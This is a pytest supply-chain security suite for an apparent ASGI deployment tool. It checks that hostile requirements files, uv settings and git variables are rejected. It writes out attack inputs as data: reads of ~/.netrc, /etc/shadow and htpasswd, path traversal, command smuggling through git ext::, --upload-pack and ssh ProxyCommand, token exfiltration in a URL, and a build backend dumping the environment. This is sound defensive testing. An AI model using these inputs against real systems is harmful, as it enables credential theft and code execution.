"""Supply chain: hostile source trees and variables cannot make the controller or root read other files, run code or contact servers."""

from __future__ import annotations

import json
import socketserver
import subprocess
import threading
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from security.target import HOST, MARK, Failed

OPERATOR = "canary-of-the-operator"
# Canaries in the victim's htpasswd and environment.
OTHERS = ("canarycanary", "canary-of-the-environment")
OLD_UV = "0.13.7"


class Attempt(NamedTuple):
    """Files of a hostile source, hostile variables, and the error message of the run.

    ``{server}`` is a server of the attacker, and ``{directory}`` a directory of the operator whose path the attacker knows.
    """

    expected: str
    files: dict[str, str] = {}  # noqa: RUF012
    variables: dict[str, Any] = {}  # noqa: RUF012


def requirements(text: str, expected: str = "not in the tree", **files: str) -> Attempt:
    return Attempt(expected, {"requirements.txt": text, **files})


def git(url: str, expected: str, ref: str = "main") -> Attempt:
    return Attempt(expected, variables={"asgi_app_source": {"git": url, "ref": ref}})


INSECURE = "asgi_app_insecure_transports"
PROJECT = '[project]\nname = "x"\nversion = "1"\n'

ATTEMPTS = {
    # Hostile source trees that access files of the operator, root or the victim.
    "the operator's netrc": requirements("-r ~/.netrc"),
    "the operator's netrc by its path": requirements("-r {directory}/.netrc"),
    "the victim's passwords": requirements("-r /etc/asgi/victim/htpasswd"),
    "the victim's environment": requirements("-c /srv/victim/slots/blue/env"),
    "a file behind an include": requirements("-r a.txt", **{"a.txt": "-r ../../../x"}),
    "a file behind a comment": requirements("idna # \\\n-r /etc/asgi/victim/htpasswd"),
    "a file behind a line break of pip": requirements("idna\x0c-r /etc/asgi/victim/htpasswd"),
    "a file behind a requirement": requirements("idna -r /etc/shadow", "not allowed in requirements"),
    "a file by its URL": requirements("-r file:///etc/asgi/victim/htpasswd"),
    "the victim's code": requirements("victim @ file:///srv/victim/current/code"),
    "a directory of root": requirements("-e ../../../../../root"),
    "uv's target": Attempt("not in the tree", {"uv.toml": '[pip]\ntarget = "/usr/lib/python3/dist-packages"\n'}),
    "a variable of the operator": requirements("idna @ https://127.0.0.1:1/${VAULT_TOKEN}/x.whl", "VAULT_TOKEN"),
    # Hostile source trees that use unauthenticated servers.
    "an index": requirements("--index-url {server}/simple\nidna", INSECURE),
    "another index": requirements("idna\n--extra-index-url={server}/simple", INSECURE),
    "a trusted host": requirements("--trusted-host pypi.example.org\nidna", INSECURE),
    "a direct URL": requirements("idna @ {server}/idna-99-py3-none-any.whl", INSECURE),
    "a repository": requirements("git+{server}/x.git", INSECURE),
    "uv's index": Attempt(
        INSECURE, {"pyproject.toml": PROJECT + '[[tool.uv.index]]\nurl = "{server}/simple"\ndefault = true\n'}
    ),
    "uv's trust": Attempt(INSECURE, {"uv.toml": 'allow-insecure-host = ["pypi.example.org"]\n'}),
    # Hostile variables.
    "git's ext transport": git("ext::sh -c touch% {directory}/" + MARK, "remote helper"),
    "git's fd transport": git("fd::0", "remote helper"),
    "an option of git": git("--upload-pack=touch {directory}/" + MARK, "not the address of a repository"),
    "an option of ssh": git("ssh://-oProxyCommand=touch$IFS{directory}/" + MARK + "/x", "ssh would parse as an option"),
    "an option for a ref": git("{directory}", "not a valid ref", "--upload-pack=touch {directory}/" + MARK),
    "a repository over http": git("{server}/x.git", INSECURE),
    "a repository over git's protocol": git("git://127.0.0.1/x.git", INSECURE),
    "an index of the inventory": Attempt(INSECURE, variables={"asgi_app_index_url": "{server}/simple"}),
    "an index for the build": Attempt(INSECURE, variables={"asgi_app_build_env": {"UV_INDEX": "x={server}/simple"}}),
    "trust for the build": Attempt(
        INSECURE, variables={"asgi_app_build_env": {"UV_INSECURE_HOST": "pypi.example.org"}}
    ),
    "an option of pip": Attempt(
        "not allowed in requirements", variables={"asgi_app_requirements": ["idna>3 -r /etc/shadow"]}
    ),
    "a uv without a pinned hash": Attempt("asgi_app_uv_hashes", variables={"asgi_app_uv_version": OLD_UV}),
}


@pytest.fixture
def attacker():
    """A server of the attacker on this machine, with its URL and the addresses of its clients."""

    class Recorded(socketserver.BaseRequestHandler):
        def handle(self):
            self.server.visits.append(self.client_address)

    with socketserver.ThreadingTCPServer(("0.0.0.0", 0), Recorded) as server:
        server.visits = []
        gateway = json.loads(subprocess.check_output(["docker", "network", "inspect", "bridge"]))
        address = gateway[0]["IPAM"]["Config"][0].get("Gateway", "127.0.0.1")
        server.url = f"http://{address}:{server.server_address[1]}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def operator(tmp_path, monkeypatch):
    """The operator's home directory and environment, with secrets."""
    home = tmp_path / "operator"
    home.mkdir()
    (home / ".netrc").write_text(f"machine index.example login x password {OPERATOR}\n")
    monkeypatch.setenv("NETRC", str(home / ".netrc"))
    for name in ("SSH_AUTH_SOCK", "VAULT_TOKEN", "AWS_SECRET_ACCESS_KEY", "DATABASE_URL"):
        monkeypatch.setenv(name, OPERATOR)
    return home


def substitute(value: Any, **places: str) -> Any:
    """Return *value* with placeholders in strings replaced."""
    if isinstance(value, dict):
        return {key: substitute(item, **places) for key, item in value.items()}
    if isinstance(value, list):
        return [substitute(item, **places) for item in value]
    for name, place in places.items():
        value = value.replace("{" + name + "}", place)
    return value


def uvs() -> list[str]:
    return HOST.check_output("ls /opt/asgi").split()


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS)
def test_hostile_sources_and_variables_are_rejected_before_any_change(deploy, intruder, attacker, operator, attempt):
    before = intruder.release, uvs()
    files, variables = substitute([attempt.files, attempt.variables], server=attacker.url, directory=str(operator))
    output = deploy.fails(files, **variables)
    assert attempt.expected in " ".join(output.split()), output
    assert "nothing has been changed" in output
    assert not any(canary in output for canary in (OPERATOR, *OTHERS)), output
    assert attacker.visits == []
    assert not list(operator.rglob(f"*{MARK}*"))
    assert (intruder.release, uvs()) == before


BACKEND = """
import json, os
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open({seen!r}, "w") as file:
        json.dump(dict(os.environ), file)
    raise SystemExit(3)
"""


def test_build_backend_on_the_controller_receives_no_secret(deploy, operator, tmp_path, monkeypatch):
    """The backend runs as the operator, but does not inherit secrets from the environment."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    seen = tmp_path / "seen.json"
    files = {
        "backend.py": BACKEND.format(seen=str(seen)),
        "pyproject.toml": PROJECT + '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    }
    # Without a requirements.txt, the project itself is built.
    deploy.fails(files, asgi_app_wheelhouse=True, asgi_app_exclude=["requirements.txt"])
    environment = json.loads(Path(seen).read_text())
    assert environment["PATH"]
    assert not [name for name, value in environment.items() if OPERATOR in value]
    assert not [name for name in environment if name.startswith(("ANSIBLE", "MOLECULE", "DOCKER"))]


def test_uv_with_another_hash_is_not_installed(deploy, intruder):
    """The index has that version, but its hash differs from asgi_app_uv_hashes."""
    before = intruder.release, uvs()
    output = deploy.fails(asgi_app_uv_version=OLD_UV, asgi_app_uv_hashes=["sha256:" + "a" * 64])
    assert "hash" in output.lower(), output
    assert (intruder.release, uvs()) == before


def test_app_cannot_change_the_bill_of_materials_of_its_release(intruder, playbook, tmp_path):
    sbom = HOST.file(f"/srv/intruder/releases/{intruder.release}/sbom.cdx.json")
    assert (sbom.user, sbom.group, sbom.mode) == ("root", "root", 0o644)
    document = json.loads(sbom.content_string)
    assert (document["bomFormat"], document["specVersion"]) == ("CycloneDX", "1.6")
    packages = json.loads(HOST.file(f"/srv/intruder/releases/{intruder.release}/release.json").content_string)[
        "packages"
    ]
    assert {each["name"]: each["version"] for each in document["components"] if each["type"] == "library"} == packages
    with pytest.raises(Failed, match="denied|Read-only|No such file"):
        intruder.run(f"open('/srv/intruder/releases/{intruder.release}/sbom.cdx.json', 'a')")
    playbook.succeeds("status", "--limit", "all", asgi_status_sbom=str(tmp_path / "boms"), asgi_status_strict=False)
    copies = sorted(path.name for path in (tmp_path / "boms").iterdir())
    assert copies == ["intruder-intruder.cdx.json", "victim-victim.cdx.json"]
    assert json.loads((tmp_path / "boms" / copies[0]).read_text()) == document


def test_unavailable_vulnerability_database_is_reported(deploy, attacker, restored):
    """An attacker cannot hide vulnerabilities by blocking the database."""
    nowhere = {"asgi_app_audit": True, "asgi_app_audit_url": f"https{attacker.url[4:]}"}
    output = deploy.succeeds(**nowhere)
    assert "were not audited" in output
    output = deploy.fails(**nowhere, asgi_app_audit_strict=True)
    assert "were not audited" in output
